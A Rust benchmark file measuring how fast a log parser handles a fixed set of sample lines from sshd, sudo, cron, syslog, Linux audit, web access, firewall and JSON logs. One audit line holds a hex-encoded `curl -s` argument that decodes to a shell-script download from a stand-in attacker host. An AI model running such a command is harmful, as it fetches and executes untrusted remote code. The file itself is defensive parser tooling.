//! Throughput of `parse_line` on a mix of real-looking lines of every format (lines/s).

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use vigil_parse::{LineContext, parse_line};

const LINES: &[&str] = &[
    "Nov 23 10:00:01 bastion-1 sshd[812]: Failed password for root from 203.0.113.9 port 52144 ssh2",
    "Nov 23 10:00:02 bastion-1 sshd[812]: Accepted publickey for alice from 10.0.4.7 port 61022 ssh2: ED25519 SHA256:abc",
    "Nov 23 10:00:03 bastion-1 sshd[812]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root",
    "Nov 23 10:00:04 app-2 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update",
    "Nov 23 10:00:05 web-1 CRON[4242]: (root) CMD (run-parts /etc/cron.hourly)",
    "<165>1 2026-11-23T10:00:06.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut=\"3\" eventSource=\"Application\"] An application event",
    r#"type=SYSCALL msg=audit(1700000000.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55d5c1e0 a1=55d5c1f0 a2=7ffd items=2 ppid=1234 pid=5678 auid=1000 uid=0 comm="curl" exe="/usr/bin/curl" key="network_tools""#,
    "type=EXECVE msg=audit(1700000000.123:456): argc=3 a0=\"curl\" a1=\"-s\" a2=687474703A2F2F6576696C2E6578616D706C652F782E7368",
    r#"203.0.113.9 - - [23/Nov/2026:10:00:00 +0000] "GET /wp-login.php?redirect_to=%2F HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)""#,
    "Nov 23 10:00:07 fw-1 kernel: [ 1234.567890] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:ab:cd:ef:08:00 SRC=203.0.113.9 DST=10.0.0.5 LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=54321 DF PROTO=TCP SPT=51234 DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0",
    r#"{"@timestamp":"2026-11-23T10:00:08Z","event":{"dataset":"app"},"message":"user logged in","user":{"name":"bob"}}"#,
    "just some unstructured text that matches nothing",
];

fn bench(c: &mut Criterion) {
    let ctx = LineContext::new(chrono::Utc::now()).with_host("collector");
    let mut group = c.benchmark_group("parse_line");
    group.throughput(Throughput::Elements(LINES.len() as u64));
    group.bench_function("mixed", |b| {
        b.iter(|| {
            for line in LINES {
                std::hint::black_box(parse_line(std::hint::black_box(line), &ctx));
            }
        })
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
